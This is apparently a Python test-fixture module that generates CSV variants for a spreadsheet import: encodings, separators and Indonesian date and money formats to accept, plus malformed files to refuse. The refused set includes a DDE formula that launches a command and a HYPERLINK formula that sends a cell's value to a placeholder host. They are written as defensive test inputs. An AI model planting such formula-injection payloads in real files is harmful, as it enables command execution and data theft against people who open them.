"""CSV files as programs write them and as they break, for the import: what must be refused, what must be read alike."""

import codecs
import csv
import io
from collections.abc import Callable, Iterable, Sequence
from datetime import date
from typing import Any

from chalicelib.sheets import Template
from tests.ops.sheets import Row, lines, table, table_of
from tests.ops.sheets_dressed import three

Maker = Callable[[Template], bytes]
MONTHS = (
    "Januari", "Februari", "Maret", "April", "Mei", "Juni", "Juli", "Agustus", "September", "Oktober",
    "November", "Desember",
)  # fmt: skip


def in_indonesian(day: date) -> str:
    return f"{day.day} {MONTHS[day.month - 1]} {day.year}"


def _money(template: Template, write: Callable[[int], str]) -> bytes:
    """The rows with every amount written in one way."""
    kinds = {column.id: column.field.kind for column in template.columns}
    return table(
        template,
        [
            {name: write(cell) if kinds[name] == "rupiah" else cell for name, cell in row.items()}
            for row in three(template)
        ],
    )


def _dates(template: Template, write: Callable[[date], str]) -> bytes:
    rows: list[Row] = [
        {name: write(cell) if isinstance(cell, date) else cell for name, cell in row.items()}
        for row in three(template)
    ]
    return table(template, rows)


def _text(template: Template, rows: Iterable[Row] | None = None) -> str:
    return table(template, three(template) if rows is None else rows, coding="utf-8").decode()


# ── Read alike ───────────────────────────────────────────────────────────────────────────────────────────────────


def semicolons_with_mark(template: Template) -> bytes:
    """What an Indonesian Excel saves as "CSV UTF-8"."""
    return table(template, three(template))


def commas(template: Template) -> bytes:
    return table(template, three(template), ",", "utf-8")


def tabs(template: Template) -> bytes:
    return table(template, three(template), "\t", "utf-8")


def utf16(template: Template) -> bytes:
    """What Excel saves as "Unicode text"."""
    return table(template, three(template), "\t", "utf-16")


def utf16_big(template: Template) -> bytes:
    return codecs.BOM_UTF16_BE + table(template, three(template), "\t", "utf-16-be")


def windows_1252(template: Template) -> bytes:
    return table(template, three(template), ";", "cp1252")


def named_separator(template: Template) -> bytes:
    return b"sep=;\r\n" + table(template, three(template), ";", "utf-8")


def unix_lines(template: Template) -> bytes:
    return table(template, three(template), ";", "utf-8").replace(b"\r\n", b"\n")


def no_last_line_end(template: Template) -> bytes:
    return table(template, three(template)).removesuffix(b"\r\n")


def everything_quoted(template: Template) -> bytes:
    out = io.StringIO(newline="")
    writer = csv.writer(out, delimiter=";", quoting=csv.QUOTE_ALL)
    rows = csv.reader(io.StringIO(_text(template)), delimiter=";")
    writer.writerows(rows)
    return out.getvalue().encode()


def blanks_around(template: Template) -> bytes:
    def padded(cell: Any) -> Any:
        return f"  {cell} \u00a0" if isinstance(cell, str) else cell

    return table_of([[padded(cell) for cell in line] for line in lines(template, three(template))])


def empty_lines(template: Template) -> bytes:
    first, rest = _text(template).split("\r\n", 1)
    return f"{first}\r\n\r\n;;;\r\n{rest}\r\n;;;;\r\n".encode()


def money_with_points(template: Template) -> bytes:
    return _money(template, lambda n: f"{n:,}".replace(",", "."))


def money_as_in_english(template: Template) -> bytes:
    return _money(template, lambda n: f"{n:,}.00")


def money_with_rp(template: Template) -> bytes:
    return _money(template, lambda n: f"Rp {n:,},-".replace(",", ".", f"{n:,}".count(",")))


def dates_in_indonesian(template: Template) -> bytes:
    return _dates(template, in_indonesian)


def dates_iso(template: Template) -> bytes:
    return _dates(template, date.isoformat)


READ: tuple[Maker, ...] = (
    semicolons_with_mark, commas, tabs, utf16, utf16_big, windows_1252, named_separator, unix_lines,
    no_last_line_end, everything_quoted, blanks_around, empty_lines, money_with_points,
    money_with_rp, dates_in_indonesian, dates_iso,
)  # fmt: skip


# ── Refused ──────────────────────────────────────────────────────────────────────────────────────────────────────


def quote_never_closed(template: Template) -> bytes:
    """From the second row on everything is one cell."""
    head, first, rest = _text(template).split("\r\n", 2)
    return f'{head}\r\n{first}\r\n"{rest}'.encode()


def nul_bytes(template: Template) -> bytes:
    content = table(template, three(template))
    return content[: len(content) // 2] + b"\0\0\0" + content[len(content) // 2 :]


def nul_in_utf16(template: Template) -> bytes:
    return ("\ufeff" + _text(template).replace("Contoh", "Con\0toh")).encode("utf-16-le")


def formula(template: Template) -> bytes:
    return _with_cell(template, "=1+1")


def formula_that_runs(template: Template) -> bytes:
    return _with_cell(template, "=cmd|'/C calc'!A0")


def formula_that_sends(template: Template) -> bytes:
    return _with_cell(template, '=HYPERLINK("https://contoh.example/?a="&A1;"klik")')


def other_headers(template: Template) -> bytes:
    return table_of([["No", "Nama", "Alamat", "Nominal"], [1, "Contoh", "Kp. Contoh", 5_000_000]])


def column_more(template: Template) -> bytes:
    return table_of([[*line, "lain"] for line in lines(template, three(template))])


def only_headers(template: Template) -> bytes:
    return table(template, [])


def no_headers(template: Template) -> bytes:
    return _text(template).split("\r\n", 1)[1].encode()


def cells_moved(template: Template) -> bytes:
    """A separator too many inside an unquoted text moves the rest of the row by one cell."""
    made = list(lines(template, three(template)))
    full = ["x" if cell is None else cell for cell in made[2]]
    return table_of([*made[:2], [full[0], "Jl. Raya", *full[1:]], made[3]])


def only_blanks(template: Template) -> bytes:
    return b" \r\n\r\n  \t\r\n"


def only_mark(template: Template) -> bytes:
    return codecs.BOM_UTF8


def sixty_thousand_lines(template: Template) -> bytes:
    return _text(template).encode() + b"Contoh;Contoh;Contoh\r\n" * 60_000


def _with_cell(template: Template, cell: str) -> bytes:
    made: list[Sequence[Any]] = list(lines(template, three(template)))
    return table_of([*made[:2], [cell, *made[2][1:]], made[3]])


REFUSED: tuple[Maker, ...] = (
    quote_never_closed, nul_bytes, nul_in_utf16, formula, formula_that_runs, formula_that_sends, other_headers,
    column_more, only_headers, no_headers, cells_moved, only_blanks, only_mark, sixty_thousand_lines,
)  # fmt: skip


# ── Either, but never in part ────────────────────────────────────────────────────────────────────────────────────


def old_mac_lines(template: Template) -> bytes:
    return table(template, three(template), ";", "utf-8").replace(b"\r\n", b"\r")


def utf16_without_mark(template: Template) -> bytes:
    return table(template, three(template), ";", "utf-16-le")


def huge_cell(template: Template) -> bytes:
    """A megabyte in one quoted cell: more than the csv module of Python takes by itself."""
    return _with_cell(template, "contoh " * 150_000)


EITHER: tuple[Maker, ...] = (old_mac_lines, utf16_without_mark, huge_cell)

#: Read, but each amount is either what is meant or asked again: a comma is no point in Indonesia.
ASKED: tuple[Maker, ...] = (money_as_in_english,)
